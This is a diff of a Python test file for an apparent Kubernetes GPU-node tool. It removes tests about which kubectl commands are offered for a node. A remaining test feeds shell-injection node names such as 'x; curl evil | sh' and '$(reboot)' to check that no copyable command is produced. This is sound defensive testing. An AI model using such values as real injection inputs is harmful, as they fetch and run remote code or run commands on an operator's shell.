@@ -148,12 +148,6 @@ def test_only_what_changes_something_is_offered(of: PageState, commands: list[st
     assert [line.strip().rsplit("   ", 1)[0].strip() for line in offers] == commands
 
 
-def test_without_a_session_a_node_can_be_taken_and_a_hold_be_ended() -> None:
-    of = state([node("b", **HELD)])
-    assert [act.command for act in node_of(of, "b").acts] == [TAKE, UNHOLD]
-    assert [act.command for act in node_of(state([node("b")]), "b").acts] == [TAKE]
-
-
 @pytest.mark.parametrize(
     ("of", "commands"),
     [
@@ -175,16 +169,6 @@ def test_of_a_node_in_service_only_what_works_is_offered(
     assert [act.command for act in node_of(of, "b").acts] == commands
 
 
-@pytest.mark.parametrize(("asked_back", "offered"), [(False, 1), (True, 0)])
-def test_a_session_that_waits_for_a_label_offers_to_take_it_off(
-    asked_back: bool, offered: int
-) -> None:
-    there = world(incident(), asked_back=asked_back)
-    there.snapshot.nodes["b"].labels["gpuward.io/opt-out"] = "true"
-    commands = [act.command for act in node_of(there, "b").acts]
-    assert commands.count("kubectl label node b gpuward.io/opt-out-") == offered
-
-
 @pytest.mark.parametrize("bad", ["x; curl evil | sh", "$(reboot)", "../x", "-o", ""])
 def test_of_what_no_node_can_be_called_there_is_nothing_to_copy(bad: str) -> None:
     """Whoever may write a session names any node in it, and a click puts it into a shell."""
@@ -204,15 +188,3 @@ def test_an_ended_session_offers_what_can_be_done_about_its_node_now(phase: str)
     assert node_of(gone, "b").acts == ()
     offered = set(re.findall(r"kubectl gpuward (\w+) b\b", node_html(gone, "b")))
     assert offered == {"why"}
-
-
-@pytest.mark.parametrize("held", [False, True])
-def test_of_a_node_that_is_gone_nothing_is_offered_that_is_written_on_it(held: bool) -> None:
-    there = world(None, hold=held, conditions=(STEP,))
-    quarantines = tuple(there.snapshot.quarantines.values())
-    gone = state([], quarantines)
-    assert node_of(gone, "b").acts == ()
-    # Whoever may not read the node cannot know that it is gone.
-    look = NodeLook(name="b", now=NOW, node=None, sessions=quarantines)
-    offers = "\n".join(why(look)).partition("\nyou can  ")[2]
-    assert [line.split()[2] for line in offers.splitlines()] == ["repair", "release"]
